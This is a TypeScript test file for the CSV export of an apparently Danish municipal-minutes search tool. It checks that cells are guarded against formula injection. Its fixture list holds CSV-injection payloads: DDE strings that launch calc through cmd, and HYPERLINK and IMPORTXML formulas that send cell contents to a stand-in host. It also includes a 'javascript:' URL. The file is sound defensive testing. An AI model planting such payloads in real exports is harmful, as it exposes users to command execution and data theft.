import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csv, toCell } from '../../src/export/csv.ts'
import { guardFormulas } from '../../src/export/formula-guard.ts'
import { anyText, context, kept, makeHit } from './hits.ts'
import { readCsv, unguard } from './readers.ts'

const cellOf = (text: string): string => readCsv(`${toCell(text)}\r\n`)[0]?.[0] ?? ''

describe('a cell', () => {
  test('reads back as the text, whatever it is', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(unguard(cellOf(text))).toBe(kept(text))
      }),
      { numRuns: 5_000 },
    )
  })

  test('is one cell of one row, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (cells) => {
        const rows = readCsv(`${cells.map(toCell).join(';')}\r\n`)
        expect(rows).toHaveLength(1)
        expect(rows[0]).toHaveLength(cells.length)
      }),
      { numRuns: 2_000 },
    )
  })

  test('has no piece that runs as a formula, wherever a reader cuts it and whichever quotes it skips', () => {
    fc.assert(
      fc.property(anyText, anyText, (first, second) => {
        const line = `${toCell(first)};${toCell(second)}\r\n`
        const cells = [...readCsv(line).flat(), ...line.split(/[;\r\n]/), ...line.split(/[,;|\t\r\n]/)]
        for (const cell of cells) {
          expect(cell).not.toMatch(/^[\s"\u200b-\u200d\u2060\ufeff]*[=+\-@＝＋－＠]/)
        }
        for (const cell of readCsv(line).flat()) expect(cell).not.toMatch(/^[\t\r\n]/)
      }),
      { numRuns: 5_000 },
    )
  })

  const formulas = [
    '=1+1',
    '=cmd|"/C calc"!A0',
    '+cmd|"/C calc"!A0',
    '-2+3+cmd|"/C calc"!A0',
    '@SUM(1+1)*cmd|"/C calc"!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    ';=1+1',
    ',=1+1',
    '|=1+1',
    'bro;=1+1',
    'bro,=1+1',
    'bro\t=1+1',
    'bro\n=1+1',
    'bro\r\n@A1',
    'bro;"=1+1',
    'bro","=1+1',
    'bro";"=1+1',
    'bro; +45 12345678',
    'bro, -5',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '=HYPERLINK("http://x.example?"&A1,"klik")',
    '=IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(1)*cmd|' /C calc'!A0",
    '--',
    '@',
    '=',
  ]
  test.each(formulas)('is text, not a formula: %j', (formula) => {
    expect(formulas).toHaveLength(40)
    const guarded = guardFormulas(formula)
    expect(guarded).not.toBe(formula)
    expect(guarded.length).toBeGreaterThan(formula.length)
    for (const piece of guarded.split(/[,;|\t\r\n]/)) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
    expect(unguard(guarded)).toBe(formula)
  })

  test.each([
    'Godkendt.',
    'A-kasse',
    'a@b.dk',
    '2 + 2 = 4',
    'Børne-, Unge- og Skoleudvalget',
    "O'Hara",
    '1.167.000 kr.',
  ])('that is harmless stays as it is: %s', (text) => {
    expect(guardFormulas(text)).toBe(text)
  })

  test('of a million blanks is guarded in no time', () => {
    const started = performance.now()
    guardFormulas(`${' '.repeat(1_000_000)}=`)
    expect(performance.now() - started).toBeLessThan(2_000)
  })
})

describe('a file', () => {
  const file = (changes: Parameters<typeof context>[0] = {}, hits = [makeHit()]): string[][] => {
    const about = context(changes)
    const text =
      csv.begin(about) + hits.map((hit, index) => csv.entry(hit, index + 1, about)).join('') + csv.end(about)
    expect(text.startsWith('\ufeff')).toBe(true)
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    return readCsv(text.slice(1))
  }

  test('has Danish column heads and a row for each hit', () => {
    expect(file()).toEqual([
      [
        ...['Nr.', 'Titel', 'Kommune', 'Udvalg', 'Mødedato', 'Punkt', 'Sagsnummer', 'Sagstype', 'Udfald'],
        ...['Beslutning', 'Bilag', 'Lukket', 'Adresse', 'Kilde', 'Kildeadresse', 'Id'],
        ...['Søgning', 'Indeksversion', 'Dannet'],
      ],
      [
        ...[
          '1',
          'Ny bro over Møllebækken',
          'Vesterå Kommune',
          'Teknikudvalget',
          '2025-11-05',
          '3',
          '25/16587',
        ],
        ...['Beslutningssag', 'Godkendt', 'Godkendt.', '2', 'nej'],
        'https://referater.example/items/vesteraa.teknikudvalget.2025-11-05.3',
        ...['teknik.txt', 'https://minutes.example/a?b=1&c={x}', 'vesteraa.teknikudvalget.2025-11-05.3'],
        ...['ny bro [year: 2024, 2025] [sort: newest]', '12', '2026-11-25T09:30:00Z'],
      ],
    ])
  })

  test('that is cut says so in its last row', () => {
    const rows = file({ rows: 10_000, total: 12_345 })
    const note = rows.at(-1) ?? []
    expect(note).toHaveLength(rows[0]?.length ?? 0)
    expect(note[1]).toBe(
      'Bemærk: kun de første 10.000 af 12.345 punkter er med. Afgræns søgningen for at få resten.',
    )
    expect(note.slice(-2)).toEqual(['12', '2026-11-25T09:30:00Z'])
  })

  test('without a hit says so, and what was searched', () => {
    const rows = file({ rows: 0, total: 0 }, [])
    expect(rows).toHaveLength(2)
    expect(rows[1]?.[1]).toBe('Ingen punkter passer til søgningen.')
    expect(rows[1]?.at(-3)).toContain('ny bro')
  })

  test('of words alone says so in every row', () => {
    const [, row] = file({ degraded: ['semantic'] })
    expect(row?.at(-3)).toBe('ny bro [year: 2024, 2025] [sort: newest] [kun træf på ord]')
  })

  test('marks a closed item and names no address that is not of the web', () => {
    const hit = { ...makeHit({ closed: true }), source: { name: 'a.txt', url: 'javascript:alert(1)' } }
    const [, row] = file({}, [hit])
    expect(row?.[11]).toBe('ja')
    expect(row?.[14]).toBe('')
  })
})
